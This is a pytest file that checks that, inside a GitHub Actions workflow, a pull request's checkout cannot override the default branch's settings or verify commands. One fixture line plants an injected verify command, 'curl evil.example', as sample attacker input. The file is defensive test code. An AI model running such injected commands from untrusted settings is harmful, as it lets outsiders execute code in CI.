"""In a workflow no checkout says what is allowed: it may be that of a pull."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from unittest import mock

import pytest

from ralph_mission.adapters.git.git import Git
from ralph_mission.app import agent_jobs, hosting
from ralph_mission.app.agent_jobs import CloneRun, LoopCoder
from ralph_mission.app.cycle import App, build_app
from ralph_mission.app.hosting import QuietProgress, SystemClock, choose_hosting
from ralph_mission.config.settings import Config
from ralph_mission.errors import UserError
from ralph_mission.mission.model.agent_job import AgentJob
from tests.helpers import git
from tests.integration.hub import Hub, open_hub, unpaced
from tests.mission.build import loop_result

MINE = "hands: {verify: [make test]}\n"
THEIRS = (
    "forge: {kind: local}\nhands: {verify: [curl evil.example]}\n"
    "observers: {commands: [{name: a, run: b, parse: sarif}]}\n"
)


@pytest.fixture
def hub(tmp_path: Path) -> Iterator[Hub]:
    """A server whose default branch has settings, and a checkout with others."""
    with open_hub(tmp_path, {"ci/ralph.yml": MINE}, MINE) as made:
        for name in ("ralph.yml", "ci/ralph.yml", "ci/other.yml"):
            (made.clone / name).write_text(THEIRS)
        yield made


def _house(hub: Hub, config: Path | None) -> App:
    with mock.patch.dict(os.environ, hub.environ | {"GITHUB_ACTIONS": "true"}), unpaced():
        return build_app(hub.clone, config, now=hub.now)


@pytest.mark.parametrize("name", [None, "ralph.yml", "ci/ralph.yml", "ci/../ci/ralph.yml"])
def test_a_checkout_takes_neither_the_forge_nor_the_commands(hub: Hub, name: str | None) -> None:
    house = _house(hub, hub.clone / name if name else None)
    assert house.github is not None
    assert (house.config.hands.verify, house.config.observers.commands) == (("make test",), ())


def test_a_link_to_the_checkout_leads_to_the_default_branch(hub: Hub, tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(hub.clone)
    assert _house(hub, tmp_path / "link" / "ralph.yml").config.hands.verify == ("make test",)


def test_a_file_that_the_default_branch_lacks_is_refused(hub: Hub) -> None:
    with pytest.raises(UserError, match=r"ci/other\.yml is not on the default branch"):
        _house(hub, hub.clone / "ci/other.yml")


def test_settings_from_elsewhere_on_the_machine_are_the_workflows_own(hub: Hub, tmp_path: Path) -> None:
    (tmp_path / "mine.yml").write_text("owners: [mara]\n")
    assert _house(hub, tmp_path / "mine.yml").config.owners == ("mara",)


def settings_of_loop(coder: LoopCoder, folder: Path) -> Path:
    """The file of settings that an agent's loop is started with."""
    head = coder.git.text("rev-parse", "HEAD")
    job = AgentJob(1, "A table", head, "Do it", 2.0, 60.0, "ralph/mission-1", subject="abc")
    with mock.patch.object(agent_jobs, "play_in_clone", return_value=loop_result(0, "complete")) as play:
        coder.play(folder, job)
    run = play.call_args.args[1]
    assert isinstance(run, CloneRun) and run.options.config
    return run.options.config


@pytest.mark.parametrize("name", [None, "ci/ralph.yml"])
def test_an_agents_loop_takes_them_from_there_too(hub: Hub, tmp_path: Path, name: str | None) -> None:
    here = _house(hub, None).git
    config, head = hub.clone / name if name else None, here.text("rev-parse", "HEAD")
    with mock.patch.dict(os.environ, {"GITHUB_ACTIONS": "true"}):
        settings = settings_of_loop(LoopCoder(here, Config(), config, head, tmp_path / "jobs"), tmp_path)
    assert settings.read_text() == MINE


def test_where_the_default_branch_keeps_issues_in_files_it_still_says_what_is_run(tmp_path: Path) -> None:
    with open_hub(tmp_path, {}, f"forge: {{kind: local}}\n{MINE}") as made:
        (made.clone / "ralph.yml").write_text(THEIRS)
        with mock.patch.dict(os.environ, made.environ | {"GITHUB_ACTIONS": "true"}):
            host = choose_hosting(Git.open(made.clone), None, "auto", SystemClock(), QuietProgress())
        assert (host.github, host.settings.hands.verify) == (None, ("make test",))
        assert host.head == git(made.clone, "rev-parse", "HEAD").strip()


def test_a_repository_without_settings_has_those_of_its_fleet_and_so_has_its_agent(tmp_path: Path) -> None:
    fleets = f"acme/control//ralph.yml@{'0' * 40}"
    terms = {"usd_per_day": None, "pulls": True, "spoke": False, "priors": {}, "extends": fleets}
    with (
        open_hub(tmp_path) as made,
        mock.patch.dict(os.environ, {"RALPH_FLEET": json.dumps(terms)}),
        mock.patch.object(hosting, "read_shared", return_value=MINE.encode()),
    ):
        server = made.fake.bare
        empty = git(server, "hash-object", "-t", "tree", "-w", "/dev/null").strip()
        git(
            server,
            "update-ref",
            "HEAD",
            git(
                server,
                "-c",
                "user.name=m",
                "-c",
                "user.email=m@x",
                "commit-tree",
                empty,
                "-p",
                "HEAD",
                "-m",
                "Begin anew",
            ).strip(),
        )
        house = _house(made, None)
        assert house.config.hands.verify == ("make test",)
        settings = settings_of_loop(LoopCoder(house.git, house.config, None, house.head, tmp_path / "jobs"), tmp_path)
    assert settings.read_text() == f'extends: "{fleets}"\n'
